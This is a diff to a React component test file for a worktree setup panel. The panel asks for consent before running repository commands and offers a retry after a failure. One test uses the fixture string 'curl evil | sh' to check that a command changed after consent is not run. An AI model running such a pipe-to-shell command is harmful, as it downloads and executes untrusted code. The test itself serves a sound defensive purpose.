@@ -40,7 +40,10 @@ const worktree = {
 
 test('a worktree that came up is one line, which opens to its steps', () => {
   render(
-    <Setup context={context} state={{ worktree, setup: [step('base'), step('add')], activity: 'idle' }} />
+    <Setup
+      context={context}
+      state={{ worktree, setup: [step('base'), step('add')], activity: 'idle', items: [] }}
+    />
   );
   expect(screen.queryByText('Find the base')).toBeNull();
   fireEvent.click(screen.getByRole('button', { name: /Worktree ready/ }));
@@ -58,7 +61,7 @@ test('a command of the repository is shown word by word and runs when it was agr
   };
   actions.setupInfo.mockResolvedValue({ setup, recipe: null, run: null, tail: '' });
   const steps = [step('setup', { status: 'needs_consent', detail: 'make deps', seconds: null })];
-  render(<Setup context={context} state={{ worktree, setup: steps, activity: 'idle' }} />);
+  render(<Setup context={context} state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
   expect(screen.getByText('make deps')).toBeTruthy();
   fireEvent.click(screen.getByRole('button', { name: 'Run it' }));
   await vi.waitFor(() => {
@@ -77,7 +80,7 @@ test('a command that is another by now is not run', async () => {
   };
   actions.setupInfo.mockResolvedValue({ setup, recipe: null, run: null, tail: '' });
   const steps = [step('setup', { status: 'needs_consent', detail: 'make deps', seconds: null })];
-  render(<Setup context={context} state={{ worktree, setup: steps, activity: 'idle' }} />);
+  render(<Setup context={context} state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
   fireEvent.click(screen.getByRole('button', { name: 'Run it' }));
   await screen.findByText('The command has changed: curl evil | sh');
   expect(actions.runSetup).not.toHaveBeenCalled();
@@ -86,8 +89,18 @@ test('a command that is another by now is not run', async () => {
 test('a worktree that was not made says why, and can be asked for again or otherwise', async () => {
   const failed = { ...worktree, status: 'failed' as const };
   const steps = [step('add', { status: 'failed', detail: 'The disk is full' })];
-  render(<Setup context={context} state={{ worktree: failed, setup: steps, activity: 'failed' }} />);
-  expect(screen.getByText('The disk is full')).toBeTruthy();
+  const failure = {
+    type: 'failure' as const,
+    id: '7',
+    at: '',
+    reason: 'worktree',
+    message: 'The worktree could not be made: the disk is full',
+    detail: null,
+    retryable: true
+  };
+  const state = { worktree: failed, setup: steps, activity: 'failed' as const, items: [failure] };
+  render(<Setup context={context} state={state} />);
+  expect(screen.getByText('The worktree could not be made: the disk is full')).toBeTruthy();
   fireEvent.click(screen.getByRole('button', { name: 'Try again' }));
   expect(actions.retryWorktree).toHaveBeenCalledOnce();
   await vi.waitFor(() => {
